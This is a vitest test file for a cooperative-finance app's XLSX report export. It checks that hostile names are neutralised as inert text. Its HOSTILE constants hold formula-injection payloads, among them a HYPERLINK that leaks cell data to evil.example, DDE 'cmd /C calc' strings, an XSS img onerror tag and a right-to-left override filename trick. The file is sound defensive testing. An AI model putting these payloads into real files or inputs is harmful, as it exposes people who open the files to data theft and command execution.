import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemoWorkspace } from '../../src/data';
import type { Workspace } from '../../src/model/workspace';
import { buildReport, type ReportModel } from '../../src/reports/model';
import { cellText, expectedFormulaValues, MAX_CELL_TEXT, writeReportXlsx } from '../../src/reports/xlsx';
import { makeTempDir } from '../helpers/temp-dir';
import {
  findSoffice,
  readFormulaCells,
  recalcProfile,
  recalculateXlsx,
  SOFFICE_TIMEOUT_MS,
} from '../../bench/peer/libreoffice';

/** Names a council's data entry (or an attacker) might produce, set past the schema on purpose. */
const HOSTILE = {
  municipality: '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")',
  plan: '=HYPERLINK("http://evil.example","Zon op Oost")',
  html: '<img src=x onerror=alert(1)>',
  rightToLeft: 'تعاونية الطاقة الشمسية \u202Eexe.fdp',
  stream: '@SUM(1+1)*cmd|" /C calc"!A0',
  scenario: '-2+3+cmd|" /C calc"!A0',
  tabbed: '\t=1+1',
  long: 'L'.repeat(2000),
  huge: `+${'x'.repeat(39_999)}`,
};

function hostileWorkspace(): Workspace {
  const workspace = loadDemoWorkspace();
  const scenario = workspace.scenarios.find((s) => s.id === 'basis');
  const plans = (scenario?.plans ?? []).map((id) => workspace.plans.find((p) => p.id === id));
  const [first, second, third] = plans;
  if (scenario === undefined || first === undefined || second === undefined || third === undefined)
    throw new Error('The demo workspace changed: no basis scenario with three plans');
  workspace.settings.municipality = HOSTILE.municipality;
  scenario.name = HOSTILE.scenario;
  first.name = HOSTILE.plan;
  second.name = HOSTILE.html;
  third.name = HOSTILE.long;
  const cooperative = workspace.cooperatives.find((c) => c.id === first.cooperativeId);
  if (cooperative !== undefined) cooperative.name = HOSTILE.rightToLeft;
  const stream = workspace.fundingStreams[0];
  if (stream !== undefined) stream.name = HOSTILE.stream;
  const cost = first.costs[0];
  if (cost !== undefined) cost.label = HOSTILE.tabbed;
  const indicator = workspace.indicators[0];
  if (indicator !== undefined) indicator.label = HOSTILE.huge;
  return workspace;
}

async function hostileModel(): Promise<ReportModel> {
  return buildReport(hostileWorkspace(), {
    scenarioIds: ['basis'],
    lang: 'nl',
    draws: 20,
    provenance: {
      appVersion: 'test',
      workspaceFile: '=evil().json',
      generatedAt: '2026-03-01T12:00:00.000Z',
    },
  });
}

/** Every cell value of every sheet, with where it is. */
function allCells(workbook: ExcelJS.Workbook): { where: string; value: ExcelJS.CellValue }[] {
  const out: { where: string; value: ExcelJS.CellValue }[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => out.push({ where: `${sheet.name}!${cell.address}`, value: cell.value })),
    ),
  );
  return out;
}

describe('hostile names in the XLSX', () => {
  let model: ReportModel;
  let buffer: Buffer;
  let workbook: ExcelJS.Workbook;

  beforeAll(async () => {
    model = await hostileModel();
    buffer = await writeReportXlsx(model);
    workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  });

  it('never puts user text in a sheet name', () => {
    const names = workbook.worksheets.map((s) => s.name);
    // The shared inputs, then the scenario's formula sheets (others may follow them).
    const inputs = names.indexOf('Invoer');
    expect(names.slice(inputs, inputs + 7)).toEqual([
      'Invoer',
      'S1 Invoer',
      'S1 Totalen',
      'S1 Kasstroom',
      'S1 Leningen',
      'S1 Impact',
      'S1 Bijdrage',
    ]);
    for (const name of names) {
      expect(name.length).toBeLessThanOrEqual(31);
      expect(name).not.toMatch(/[[\]:*?/\\]/);
    }
  });

  it('creates no formula from user text: the file’s formulas are exactly the model’s', () => {
    const saved = readFormulaCells(buffer);
    const expected = expectedFormulaValues(model);
    expect([...saved.keys()].sort()).toEqual([...expected.keys()].sort());
    for (const { formula } of saved.values()) expect(formula).not.toMatch(/HYPERLINK|cmd|calc|img|SUM\(1/);
  });

  it('keeps every text cell inert, valid and within the cell limit', () => {
    const texts = allCells(workbook).filter(
      (c): c is { where: string; value: string } => typeof c.value === 'string',
    );
    expect(texts.length).toBeGreaterThan(1000);
    for (const { where, value } of texts) {
      expect(value, where).not.toMatch(/^[=+\-@\t\r\0]/);
      expect(value, where).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
      expect(value.length, where).toBeLessThanOrEqual(MAX_CELL_TEXT);
    }
  });

  it('shows the hostile names neutralised and readable', () => {
    const texts = new Set(allCells(workbook).map((c) => c.value));
    expect(texts).toContain(`'${HOSTILE.municipality}`);
    expect(texts).toContain(`'${HOSTILE.plan}`);
    expect(texts).toContain(HOSTILE.html);
    expect(texts).toContain(HOSTILE.long);
    expect(texts).toContain(`'${HOSTILE.stream}`);
    expect(texts).toContain(`'${HOSTILE.scenario}`);
    expect(texts).toContain(`'${HOSTILE.tabbed}`);
    expect(texts).toContain("'=evil().json");
    // Right-to-left script is kept; only the override that would reverse the rest is replaced.
    expect(texts).toContain('تعاونية الطاقة الشمسية \uFFFDexe.fdp');
    const huge = cellText(HOSTILE.huge);
    expect(huge).toHaveLength(MAX_CELL_TEXT);
    expect(texts).toContain(huge);
  });

  it('writes amounts as numbers, negative ones too', () => {
    const cashFlow = workbook.getWorksheet('Kasstroom per plan');
    const net = cashFlow?.getRow(1).values;
    const netColumn = Array.isArray(net) ? net.indexOf('Netto') : -1;
    expect(netColumn).toBeGreaterThan(0);
    const nets: ExcelJS.CellValue[] = [];
    cashFlow?.eachRow((row, r) => {
      if (r > 1) nets.push(row.getCell(netColumn).value);
    });
    for (const value of nets) expect(typeof value).toBe('number');
    expect(nets.some((v) => typeof v === 'number' && v < 0)).toBe(true);
    // Negative impact effects on the inputs sheet are numbers as well.
    const inputs = allCells(workbook).filter((c) => c.where.startsWith('Invoer!'));
    expect(inputs.some((c) => typeof c.value === 'number' && c.value < 0)).toBe(true);
    // No text anywhere looks like a negative number.
    for (const { where, value } of allCells(workbook)) {
      if (typeof value === 'string') expect(value, where).not.toMatch(/^'?-\d[\d.,]*$/);
    }
  });
});

const soffice = findSoffice();

describe.skipIf(soffice === null)('hostile names through LibreOffice', () => {
  const temp = makeTempDir('coopfolio-xlsx-hostile-');
  afterAll(() => temp.cleanup());

  it(
    'opens the file, runs only the model’s formulas and keeps the names as text',
    async () => {
      const model = await hostileModel();
      const input = join(temp.dir, 'in', 'rapport.xlsx');
      mkdirSync(join(temp.dir, 'in'), { recursive: true });
      writeFileSync(input, await writeReportXlsx(model));
      const profile = await recalcProfile(soffice ?? 'soffice', join(temp.dir, 'profile'));
      const output = await recalculateXlsx(soffice ?? 'soffice', profile, input, join(temp.dir, 'out'));

      const expected = expectedFormulaValues(model);
      for (const [address, saved] of readFormulaCells(readFileSync(output))) {
        // LibreOffice saves boolean cells (the allocations' "locked" column) as TRUE()/FALSE().
        if (saved.formula === 'TRUE()' || saved.formula === 'FALSE()') continue;
        expect(expected.has(address), `${address} ${saved.formula}`).toBe(true);
      }
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(readFileSync(output) as unknown as ArrayBuffer);
      const texts = new Set(allCells(workbook).map((c) => c.value));
      expect(texts).toContain(`'${HOSTILE.plan}`);
      expect(texts).toContain(HOSTILE.html);
      expect(texts).toContain(cellText(HOSTILE.huge));
    },
    3 * SOFFICE_TIMEOUT_MS,
  );
});
